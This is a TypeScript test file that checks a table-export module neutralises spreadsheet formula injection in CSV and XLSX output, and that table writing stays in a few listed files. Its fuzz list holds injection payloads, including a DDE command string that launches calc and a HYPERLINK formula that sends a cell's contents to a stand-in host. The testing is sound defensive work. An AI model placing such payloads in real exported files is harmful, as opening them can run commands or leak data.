/** No table that leaves this house runs anything in a spreadsheet, whatever somebody typed as a name or a note. */
import { globSync, mkdtempSync, readFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { parse } from "csv-parse/sync";
import fc from "fast-check";
import readXlsxFile from "read-excel-file/node";
import { expect, test } from "vitest";
import { guarded, unguarded, writeTable } from "./table-file-write.ts";

const FUZZ = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  "+86 138 1234 5678",
  "-2+3",
  "@SUM(1)",
  "\t=1",
  "\r=1",
  "\n=1",
  "  =1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  "\ufeff=1",
  "\u200b=1",
  "'=1",
  "''=1",
  '=HYPERLINK("http://x.example/?"&A1,"点")',
  "|calc",
  "%0A=1",
] as const;
/** What a spreadsheet would take for a formula at the beginning of a cell. */
const RUNS = /^[\s\u200b\ufeff]*[=+\-@|%＝＋－＠]/;

const folder = mkdtempSync(path.join(tmpdir(), "nuanyang-table-"));
async function* rowsOf(cells: readonly string[]): AsyncGenerator<readonly string[]> {
  yield ["名称", "备注"];
  for (const cell of cells) yield [cell, "x"];
}

test("every dangerous beginning is disarmed, and read back as it was typed", () => {
  for (const cell of FUZZ) {
    expect([cell, RUNS.test(guarded(cell))]).toEqual([cell, false]);
    expect(unguarded(guarded(cell))).toBe(cell);
  }
  fc.assert(
    fc.property(
      fc.stringMatching(/^[\t\r\n '=+\-@|%＝＋－＠]{0,3}/),
      fc.string({ maxLength: 12 }),
      (head, tail) => {
        const cell = head + tail;
        return !RUNS.test(guarded(cell)) && unguarded(guarded(cell)) === cell;
      },
    ),
  );
  for (const plain of ["王小明", "138****5678", "", "3-2-501", "2026-11-15"])
    expect(guarded(plain)).toBe(plain);
});

test.each(["csv", "xlsx"] as const)("a written %s holds no cell that runs", async (format) => {
  const file = path.join(folder, `table.${format}`);
  expect(await writeTable(file, "utf-8", rowsOf(FUZZ))).toBe(FUZZ.length);
  const cells =
    format === "csv"
      ? parse(readFileSync(file), { bom: true, relax_column_count: true }).map(([first = ""]) => first)
      : (await readXlsxFile(file)).flatMap(({ data }) => data.map(([first]) => String(first ?? "")));
  expect(cells.length).toBe(FUZZ.length + 1);
  expect(cells.filter((cell) => RUNS.test(cell))).toEqual([]);
});

test("tables are written in one place; who writes one elsewhere stands here with a reason", () => {
  const writers = globSync("src/**/*.ts")
    .filter((name) => !name.endsWith(".test.ts"))
    .filter((name) =>
      /from "(write-excel-file|csv-stringify)|import\("write-excel-file/.test(readFileSync(name, "utf8")),
    )
    .toSorted();
  expect(writers).toEqual([
    // For the person at the machine, and the demo's own old system.
    "src/cli/commands/bills-preview.ts",
    "src/cli/story/old-system.ts",
    "src/platform/table-file-write.ts",
    // The authority's own form: every cell is typed as text.
    "src/service/referrals/reply-form.ts",
  ]);
});
